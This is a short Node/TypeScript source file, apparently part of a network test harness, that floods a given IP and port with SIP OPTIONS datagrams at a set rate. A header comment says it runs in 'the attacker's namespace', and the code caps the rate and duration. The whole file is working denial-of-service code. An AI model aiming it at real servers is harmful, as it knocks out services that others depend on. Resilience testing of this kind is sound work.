// A bounded UDP flood, run inside the attacker's namespace:
//   node flood-child.js <dst-ip> <dst-port> <packets-per-s> <seconds>
// Sends SIP-looking datagrams at the rate for the time given, never more
// than rate x seconds packets, never longer than seconds + 2; prints
// {"sent": n, "errors": n, "ms": elapsed} and exits.
import { createSocket } from 'node:dgram';

const [ip = '', portText = '', ppsText = '', secondsText = ''] = process.argv.slice(2);
const port = Number(portText);
const pps = Number(ppsText);
const seconds = Number(secondsText);
if (!ip || !(port > 0) || !(pps > 0 && pps <= 200_000) || !(seconds > 0 && seconds <= 30)) {
  process.stderr.write('usage: flood-child <ip> <port> <pps 1..200000> <seconds 1..30>\n');
  process.exit(2);
}
const maxPackets = pps * seconds;
const payload = Buffer.from(
  `OPTIONS sip:100@${ip} SIP/2.0\r\nVia: SIP/2.0/UDP 203.0.113.66:5099;branch=z9hG4bKflood\r\nFrom: <sip:a@203.0.113.66>;tag=1\r\nTo: <sip:100@${ip}>\r\nCall-ID: flood@203.0.113.66\r\nCSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n`,
);
const sock = createSocket('udp4');
let sent = 0;
let errors = 0;
let inFlight = 0;
const start = Date.now();
const hardStop = start + (seconds + 2) * 1000;

function finish(): void {
  sock.close();
  process.stdout.write(`${JSON.stringify({ sent, errors, ms: Date.now() - start })}\n`);
  process.exit(0);
}

function tick(): void {
  const now = Date.now();
  const due = Math.min(maxPackets, Math.floor(((now - start) / 1000) * pps));
  // Never more than 2 ms worth of packets in flight: the rate, not a burst.
  const batch = Math.min(due - sent, Math.max(100, Math.ceil(pps / 500)) - inFlight);
  for (let i = 0; i < batch; i++) {
    sent++;
    inFlight++;
    sock.send(payload, port, ip, (err) => {
      inFlight--;
      if (err) errors++;
    });
  }
  if (sent >= maxPackets || now >= hardStop) {
    const wait = setInterval(() => {
      if (inFlight === 0 || Date.now() >= hardStop) {
        clearInterval(wait);
        finish();
      }
    }, 5);
    return;
  }
  setImmediate(tick);
}
tick();
